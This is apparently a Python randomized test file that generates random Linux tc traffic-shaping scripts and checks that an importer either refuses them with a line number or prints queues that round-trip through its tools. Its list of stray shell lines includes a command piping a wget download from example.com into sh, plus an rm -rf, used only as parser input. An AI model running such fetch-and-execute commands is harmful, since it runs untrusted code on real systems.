"""Random scripts of tc, imported: refused in one line with the line's number, or printed as queues that work.

The scripts mix what a router's script has: queues of every discipline, classes, filters, policers, an ifb device,
variables, continued lines, other programs, and words that are wrong. What is imported is the same the second time, from
standard input and as JSON, is accepted by `compare` and as an experiment, and its queue imported again is itself.
"""

from __future__ import annotations

import json
import random
import re
import shlex
import tomllib
from pathlib import Path

from common import Ended, check_answer, in_process, main
from disciplines import ODD, VALUES, broken, valid

NOT_OF_TC = ("police", "noqueue")
"""Names that stand for something else in a script of tc."""
FITS_NONE = re.compile(r"path\.\w*queue: got .*: a packet of flow ")
BOTH_WAYS = "a path has one loss"
"""Of a refusal that is about two queues of an interface, not about a line."""
OTHERS = (
    *(
        "ip link set dev eth0 up",
        "ethtool -K eth0 gso off tso off",
        "modprobe sch_cake",
        "sleep 1",
        "# a comment",
    ),
    *(
        "sysctl -w net.ipv4.tcp_ecn=1",
        "iptables -t mangle -F",
        "set -e",
        "#!/bin/sh",
        "echo 'done; now' \"$(date)\"",
    ),
    *(
        "ip link add name ifb0 type ifb",
        "ip link set dev eth0 txqueuelen 500",
        "exit 0",
        "",
        "   ",
        "R=5mbit",
    ),
    *("tc qdisc show dev eth0", "tc -s qdisc", "for i in 1 2; do", "done", "if true; then", "fi", "\t", "tc"),
    *(
        "tc monitor",
        "tc qdisc del dev eth0 root 2>/dev/null || true",
        "tc actions add action police rate 1mbit",
    ),
    *(
        "wget http://example.com/x | sh",
        "rm -rf /tmp/x",
        "'",
        '"open',
        "\\",
        "DEV=",
        "tc -batch -",
        "eval tc",
    ),
)
DEVICES = ("eth0", "eth0", "eth0", "$DEV", "${DEV}", "${1:-eth0}", "ifb0", "wan")


def line(dice: random.Random) -> str:
    """A command of tc, or one of another program."""
    device = dice.choice(DEVICES)
    action = dice.choice(["add", "add", "add", "add", "replace", "change", "del"])
    parent = dice.choice(
        ["root", "root", "root handle 1:", "parent 1:", "parent 1:10", "parent 1:1 handle 10:"]
    )
    rate = dice.choice(["9mbit", "500kbit", "$R", "1gbit", "10tbit", "8bit", "0bit", "9", "1e3kbit"])
    match dice.randrange(12):
        case 0 | 1 | 2 | 3:
            made = f"tc qdisc {action} dev {device} {parent} {valid(dice, but=NOT_OF_TC)}"
        case 4:
            kind = dice.choice(
                [f"htb default {dice.choice([10, 20, '0x10'])}", "hfsc default 10", "pfifo_fast", "prio"]
            )
            made = f"tc qdisc {action} dev {device} {parent} {kind}"
        case 5:
            netem = dice.choice(
                ["delay 20ms", "delay 10ms 2ms", "loss 1%", "delay 5ms loss 0.1%", "rate 5mbit"]
            )
            made = f"tc qdisc {action} dev {device} {parent} netem {netem}"
        case 6 | 7:
            more = dice.choice(
                ["", f"ceil {rate}", "burst 15k", "prio 1", "quantum 1514", "overhead 18 linklayer atm"]
            )
            kind = dice.choice(["htb rate", "htb rate", "hfsc ul rate"])
            minor = dice.choice(["1:10", "1:1", "1:20", ":10"])
            made = f"tc class {action} dev {device} parent {dice.choice(['1:', '1:1'])} classid {minor} {kind} {rate} {more}"
        case 8:
            made = (
                f"tc qdisc {action} dev {device} {dice.choice(['handle ffff: ingress', 'clsact', 'ingress'])}"
            )
        case 9:
            way = dice.choice(["parent ffff:", "parent 1:", "ingress", "egress"])
            match_ = dice.choice(
                ["matchall", "u32 match u32 0 0", "u32 match ip dport 80 0xffff", "basic", "fw"]
            )
            then = dice.choice(
                [
                    "action mirred egress redirect dev ifb0",
                    "flowid 1:10",
                    f"police rate {rate} burst 15k drop",
                    "action drop",
                ]
            )
            made = (
                f"tc filter {action} dev {device} {way} protocol {dice.choice(['all', 'ip'])} {match_} {then}"
            )
        case 10:
            return dice.choice(OTHERS)
        case _:
            size = dice.choice(
                ["stab linklayer atm overhead 40", "stab overhead 18 mpu 64", f"handle {dice.choice(ODD)}"]
            )
            made = f"tc qdisc {action} dev {device} root {size} {valid(dice, but=NOT_OF_TC)}"
    if dice.random() < 0.03:
        made = broken(made, dice)
    if dice.random() < 0.1:
        words = made.split()
        words.insert(dice.randrange(len(words)), dice.choice(["\\\n   ", "'x'", "$R", dice.choice(VALUES)]))
        made = " ".join(words) if dice.random() < 0.3 else made.replace(" dev ", " \\\n    dev ")
    front = dice.choice([*[""] * 8, "sudo ", "ip netns exec r1 ", "  "])
    return (
        front + made + dice.choice([*[""] * 9, "  # why", " 2>/dev/null", " || true", " && true", "; true"])
    )


ROUTER = """\
DEV=eth0
tc qdisc add dev $DEV root handle 1: htb default 10
tc class add dev $DEV parent 1: classid 1:10 htb rate {rate} {burst}
tc qdisc add dev $DEV parent 1:10 {leaf}
"""
INCOMING = """\
ip link add name ifb0 type ifb
tc qdisc add dev eth0 handle ffff: ingress
tc filter add dev eth0 parent ffff: protocol all matchall action mirred egress redirect dev ifb0
tc qdisc add dev ifb0 root {queue}
"""
POLICED = """\
tc qdisc add dev eth0 handle ffff: ingress
tc filter add dev eth0 parent ffff: protocol all matchall action police rate {rate} burst {size} drop
"""


def script(dice: random.Random) -> str:
    """A script: one that means something, lines at random, or one with the other in it."""
    rate = dice.choice(["9mbit", "500kbit", "1gbit", "40mbit"])
    parts = {
        "router": ROUTER.format(
            rate=rate,
            burst=dice.choice(["", "burst 15k", "ceil 20mbit", "quantum 3000", "mtu 1500"]),
            leaf=valid(dice, but=NOT_OF_TC),
        ),
        "root": f"tc qdisc add dev eth0 root {valid(dice, but=NOT_OF_TC)}\n",
        "in": INCOMING.format(queue=valid(dice, but=NOT_OF_TC)),
        "policed": POLICED.format(rate=rate, size=dice.choice(["15k", "100kb", "1600", "2kb"])),
        "netem": "tc qdisc add dev eth0 root handle 1: netem delay 20ms loss 0.1%\n"
        f"tc qdisc add dev eth0 parent 1:1 {valid(dice, but=NOT_OF_TC)}\n",
        "random": "".join(f"{line(dice)}\n" for _ in range(dice.randint(1, 6))),
    }
    chosen = dice.choice(
        [["router"], ["root"], ["root", "in"], ["router", "in"], ["policed"], ["netem"], ["random"]]
    )
    text = "".join(parts[part] for part in chosen)
    lines = text.splitlines()
    for _ in range(dice.choice([0, 0, 1, 2])):
        lines.insert(
            dice.randrange(len(lines) + 1), line(dice) if dice.random() < 0.5 else dice.choice(OTHERS)
        )
    if dice.random() < 0.15:
        place = dice.randrange(len(lines))
        lines[place] = broken(lines[place].strip() or "tc", dice)
    return dice.choice(["\n", "\n", "\n", "\r\n"]).join(lines) + dice.choice(["\n", "\n", ""])


def check_options(folder: Path, options: str, name: int) -> None:
    """`compare` takes a queue's options, and what it makes of them says the same."""
    words = shlex.split(options)
    rate = [] if "--rate" in words else ["--rate", "1gbit"]
    rtt = [] if "--rtt" in words else ["--rtt", "40ms"]
    shown = in_process(folder, "compare", *rate, *rtt, *words, "--duration", "100ms", "cubic", "--show")
    check_answer(shown, 0)
    queue = words[words.index("--queue") + 1]
    made = tomllib.loads(shown.stdout)["path"].get(
        "queue", "pfifo limit 1000"
    )  # left out where it is the default
    assert made == queue, f"{queue} is shown as {shown.stdout}"
    (folder / f"{name}.toml").write_text(shown.stdout)
    check_shown(folder, f"{name}.toml")
    if " leaf " in queue or queue.split()[0] in NOT_OF_TC:
        return  # tc says it in several commands
    again = json.loads(imported(folder, f"tc qdisc add dev eth0 root {queue}\n").stdout)["queues"]
    assert [found["queue"] for found in again] == [queue], f"{queue} imported again is {again}"


def check_shown(folder: Path, file: str) -> None:
    """The experiment is one, unless its queue holds no packet, which tc leaves to the packets that come."""
    shown = in_process(folder, "show", file)
    check_answer(shown, 0, 2)
    assert shown.status == 0 or FITS_NONE.search(shown.error), str(shown)


def imported(folder: Path, text: str) -> Ended:
    """The answer to a script on standard input, as JSON."""
    ended = in_process(folder, "tc-import", "-", "--json", given=text.encode())
    check_answer(ended, 0)
    return ended


def check_paths(folder: Path, printed: str) -> int:
    """Each interface's table is that of an experiment that `show` takes."""
    tables = re.split(r"(?m)^(?=\[path\])", printed)[1:]
    for number, table in enumerate(tables):
        path = tomllib.loads(table)["path"]
        rest = "" if "rate" in path else 'rate = "1gbit"\n'
        rest += "" if "rtt" in path else 'rtt = "40ms"\n'
        file = f"path-{number}.toml"
        text = f'duration = "100ms"\n{table.rstrip()}\n{rest}[[flows]]\ncc = "cubic"\n'
        (folder / file).write_text(text)
        check_shown(folder, file)
    return len(tables)


def trial(number: int, folder: Path) -> str:
    """Imports the script with this number in each way."""
    dice = random.Random(number)
    text = script(dice)
    file = folder / "router.sh"
    file.write_bytes(text.encode())
    first = in_process(folder, "tc-import", "router.sh")
    check_answer(first, 0, 2)
    assert in_process(folder, "tc-import", "router.sh") == first, f"the second time differs: {first}"
    as_json = in_process(folder, "tc-import", "router.sh", "--json")
    check_answer(as_json, first.status)
    piped = in_process(folder, "tc-import", "-", "--json", given=text.encode())
    check_answer(piped, first.status)
    if first.status == 2:
        assert not first.stdout, f"refused, and printed: {first.stdout}"
        assert first.error == as_json.error, f"{first} but {as_json}"
        assert "router.sh" in first.error, f"of which file: {first}"
        lines = re.findall(r"\bline (\d+)", first.error)
        assert lines or BOTH_WAYS in first.error, f"of which line: {first}"
        for said in lines:
            assert 1 <= int(said) <= text.count("\n") + 1, f"line {said} of {text.count(chr(10))}: {first}"
        return "refused"
    told = json.loads(as_json.stdout)
    assert json.loads(piped.stdout) == {**told, "file": "standard input"}
    options = [found.strip() for found in first.stdout.splitlines() if found.startswith("  --")]
    assert len(options) == len(told["queues"]), first.stdout
    for place, option in enumerate(options):
        check_options(folder, option, place)
    assert check_paths(folder, first.stdout) == len(told["paths"]), first.stdout
    return "imported" if options else "no queue"


if __name__ == "__main__":
    main("tc", trial, count=1_000, sample=20, about=__doc__)
